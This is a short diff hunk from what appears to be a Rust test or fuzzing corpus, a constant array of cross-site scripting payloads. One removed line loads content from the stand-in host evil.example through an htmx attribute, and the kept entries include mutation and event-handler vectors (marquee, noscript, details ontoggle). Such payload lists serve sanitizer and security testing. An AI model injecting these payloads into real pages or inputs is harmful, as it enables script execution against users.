@@ -33,7 +33,6 @@ const CORES: [&str; 42] = [
     "<marquee onstart=alert(1)>",
     "<template><script>alert(1)</script></template>",
     "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<div hx-get=//evil.example hx-trigger=load>x</div>",
     "<div data-draft=//evil.example data-exit>x</div>",
     "<x onclick=alert(1)>x</x>",
     "<details/open/ontoggle=\"alert`1`\">",
